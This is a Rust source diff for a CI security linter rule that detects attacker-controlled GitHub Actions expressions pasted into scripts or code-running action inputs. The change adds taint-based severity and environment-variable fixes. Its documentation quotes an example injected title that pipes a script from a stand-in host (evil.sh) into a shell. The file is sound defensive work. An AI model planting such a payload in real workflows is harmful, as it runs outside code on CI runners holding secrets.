@@ -1,14 +1,20 @@
 //! `expression-injection`: attacker-controlled text expanded into a script.
 
+use std::sync::LazyLock;
+
+use serde::Deserialize;
+
 use super::{
     Applicability, Confidence, Edit, Findings, Fix, Platform, Reference, Rule, RuleDocs, RuleMeta, Severity,
-    StepContext,
+    StepContext, taint,
 };
 use crate::matrix::{OwaspCicd, Technique};
 use crate::model::Text;
-use crate::model::contexts;
+use crate::model::contexts::Taint;
 use crate::model::expr::{ContextRef, Expression};
 use crate::model::github::Step;
+use crate::model::shell::Dialect;
+use crate::{bundled, data};
 
 pub struct ExpressionInjection;
 
@@ -20,9 +26,19 @@ static META: RuleMeta = RuleMeta {
     platforms: &[Platform::GithubActions],
     docs: RuleDocs {
         summary: "Attacker-controlled text is expanded into a script",
-        detects: "A `${{ }}` expression that reads a context an outsider can set (issue, pull \
-request, comment and review titles and bodies, branch names, commit messages, author names) \
-inside a `run:` script or the `script:` of `actions/github-script`.",
+        detects: "A `${{ }}` expression whose value someone other than the maintainers chooses, \
+pasted into code: a `run:` script, the `script:` of `actions/github-script`, or an input that \
+another action runs as code (a bundled list: `appleboy/ssh-action` `script`, `azure/cli` \
+`inlineScript`, `nick-fields/retry` `command`, ...). The value may be read directly (issue, pull \
+request, comment, review and discussion text, branch names, commit messages and authors, under \
+the triggers that carry them) or through the file: an `env:` variable, a value written to \
+`$GITHUB_ENV` or `$GITHUB_OUTPUT` and read back, a job output read through `needs`, a matrix \
+value, or an input of `workflow_dispatch`, `workflow_call` or a composite action. Severity \
+follows who controls the value and what the run holds: critical for outsider text on \
+`pull_request_target`, `issue_comment`, `issues` or `workflow_run`, medium on `pull_request` (no \
+secrets for forks), medium for inputs of reusable workflows and actions, low for values only \
+collaborators choose (release names, dispatch inputs). Values only compared or tested \
+(`== 'x'`, `contains()`) are not reported.",
         why: "GitHub substitutes the expression into the script text before the shell or Node \
 runs it. Whoever writes the title or the branch name writes part of the script: a title like \
 `\"; curl evil.sh | sh; #` ends the string and runs their command on the runner, with the job's \
@@ -67,33 +83,48 @@ behaves differently; quote the variable where it is used.",
     ],
 };
 
+/// An action input that runs its value as code.
+#[derive(Deserialize)]
+struct CodeInput {
+    uses: String,
+    inputs: Vec<String>,
+    language: Language,
+}
+
+#[derive(Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+enum Language {
+    Shell,
+    Javascript,
+    Powershell,
+    Python,
+}
+
+#[derive(Deserialize)]
+struct CodeInputs {
+    action: Vec<CodeInput>,
+}
+
+static CODE_INPUTS: LazyLock<CodeInputs> = LazyLock::new(|| data::parse(bundled!("code-inputs.toml")));
+
 impl Rule for ExpressionInjection {
     fn meta(&self) -> &'static RuleMeta {
         &META
     }
 
     fn check_step(&self, context: &StepContext<'_>, step: &Step, out: &mut Findings) {
-        let privileged = match context {
-            StepContext::Workflow { header, .. } => {
-                header.triggers.events.iter().any(|trigger| trigger.event.is_privileged_for_outsiders())
-            }
-            StepContext::Action { .. } => false,
-        };
-        let targets = [
-            step.run.as_ref().map(|run| (&run.text, Sink::Shell)),
-            step.uses_action("actions/github-script")
-                .then(|| step.input("script").and_then(|input| input.value.as_ref()))
-                .flatten()
-                .map(|script| (script, Sink::JavaScript)),
-        ];
-        for (text, sink) in targets.into_iter().flatten() {
-            for expression in &text.expressions {
-                for context_ref in expression.contexts.iter().filter(|c| c.reaches_result && is_untrusted(c)) {
-                    let finding = out.report(context_ref.span, message(context_ref, sink));
-                    if privileged {
-                        finding.with_severity(Severity::Critical);
-                    }
-                    if let Some(fix) = env_var_fix(step, text, expression, context_ref, sink) {
+        let scope = context.scope();
+        for sink in sinks(step) {
+            for expression in &sink.text.expressions {
+                for context_ref in expression.contexts.iter().filter(|c| c.reaches_result) {
+                    let Some(taint) = scope.taint_of_context(context_ref, &expression.source) else {
+                        continue;
+                    };
+                    let finding = out.report(context_ref.span, message(context_ref, &taint, &sink));
+                    finding
+                        .with_severity(taint::injection_severity(&taint))
+                        .with_confidence(taint::injection_confidence(&taint));
+                    if let Some(fix) = env_var_fix(step, &sink, expression, context_ref) {
                         finding.with_fix(fix);
                     }
                 }
@@ -102,38 +133,73 @@ impl Rule for ExpressionInjection {
     }
 }
 
-#[derive(Clone, Copy)]
-enum Sink {
-    Shell,
-    JavaScript,
+/// A place where a step's text is run as code.
+struct Sink<'a> {
+    text: &'a Text,
+    language: Language,
+    /// What the place is called in messages.
+    place: String,
+    /// Whether the code runs on the runner, where the step's `env:` reaches it.
+    local: bool,
 }
 
-fn is_untrusted(context: &ContextRef) -> bool {
-    contexts::is_attacker_controlled(&context.path)
-}
-
-fn message(context: &ContextRef, sink: Sink) -> String {
-    let place = match sink {
-        Sink::Shell => "the `run:` script",
-        Sink::JavaScript => "the `github-script` code",
+fn sinks(step: &Step) -> Vec<Sink<'_>> {
+    let mut sinks = Vec::new();
+    if let Some(run) = &step.run {
+        let language = if run.dialect == Dialect::PowerShell { Language::Powershell } else { Language::Shell };
+        sinks.push(Sink { text: &run.text, language, place: "the `run:` script".to_owned(), local: true });
+    }
+    let Some(uses) = &step.uses else {
+        return sinks;
     };
-    format!(
-        "`{}` is set by whoever triggers the workflow and is pasted into {place}: they can make it run their own commands",
-        context.path
-    )
+    for action in CODE_INPUTS.action.iter().filter(|action| uses.is_action(&action.uses)) {
+        for name in &action.inputs {
+            if let Some(text) = step.input_text(name) {
+                let place = format!("the `{name}:` input of `{}`, which runs it as code", action.uses);
+                let local = action.uses != "appleboy/ssh-action" && action.uses != "garygrossgarten/github-action-ssh";
+                sinks.push(Sink { text, language: action.language, place, local });
+            }
+        }
+    }
+    sinks
+}
+
+fn message(context: &ContextRef, taint: &Taint, sink: &Sink<'_>) -> String {
+    let value = if taint.is_direct() {
+        format!("`{}` is {}", context.path, taint.what)
+    } else {
+        format!("`{}` carries {}", context.path, taint.describe_from(&context.path))
+    };
+    format!("{value}, and is pasted into {}: {} can make it run their own commands", sink.place, taint::who(taint))
 }
 
 /// Moves the value into an environment variable of the step, when the expression is just the
-/// untrusted path and the step's `env:` can be extended.
-fn env_var_fix(step: &Step, text: &Text, expression: &Expression, context: &ContextRef, sink: Sink) -> Option<Fix> {
-    if expression.source != context.path || text.span.unit != expression.span.unit {
+/// context and the code runs on the runner in a language that reads environment variables.
+fn env_var_fix(step: &Step, sink: &Sink<'_>, expression: &Expression, context: &ContextRef) -> Option<Fix> {
+    if expression.source != context.path || sink.text.span.unit != expression.span.unit || !sink.local {
         return None;
     }
-    let name = env_name(&context.path, step)?;
-    let reference = match sink {
-        Sink::Shell => format!("${{{name}}}"),
-        Sink::JavaScript => format!("process.env.{name}"),
+    // `${{ env.NAME }}` is already in the environment: read it there.
+    let existing = context.path.strip_prefix("env.").filter(|name| !name.contains('.'));
+    let name = match existing {
+        Some(name) => name.to_owned(),
+        None => env_name(&context.path, step)?,
     };
+    let reference = match sink.language {
+        Language::Shell => format!("${{{name}}}"),
+        Language::Javascript => format!("process.env.{name}"),
+        Language::Powershell => format!("$env:{name}"),
+        // A Python script reads the environment only after an import the fix cannot add.
+        Language::Python => return None,
+    };
+    let replace = Edit::replace(expression.span, reference);
+    if existing.is_some() {
+        return Some(Fix {
+            title: format!("Read `{name}` from the environment"),
+            applicability: Applicability::Unsafe,
+            edits: vec![replace],
+        });
+    }
     let entry = format!("{name}: ${{{{ {} }}}}", expression.source);
     let declare = match &step.env.block {
         Some(block) => {
@@ -148,15 +214,17 @@ fn env_var_fix(step: &Step, text: &Text, expression: &Expression, context: &Cont
     Some(Fix {
         title: format!("Pass `{}` through the environment variable `{name}`", context.path),
         applicability: Applicability::Unsafe,
-        edits: vec![declare, Edit::replace(expression.span, reference)],
+        edits: vec![declare, replace],
     })
 }
 
 /// An environment variable name for a path, e.g. `ISSUE_TITLE` for
-/// `github.event.issue.title`, that the step does not already use.
+/// `github.event.issue.title` and `BRANCH` for `steps.meta.outputs.branch`, that the step
+/// does not already use.
 fn env_name(path: &str, step: &Step) -> Option<String> {
     let segments: Vec<&str> = path.split('.').filter(|s| *s != "*" && *s != "github" && *s != "event").collect();
-    let tail = &segments[segments.len().saturating_sub(2)..];
+    let kept = if matches!(segments.first(), Some(&("steps" | "needs" | "inputs" | "matrix"))) { 1 } else { 2 };
+    let tail = &segments[segments.len().saturating_sub(kept)..];
     let base: String = tail.join("_").to_ascii_uppercase().replace('-', "_");
     if base.is_empty() {
         return None;
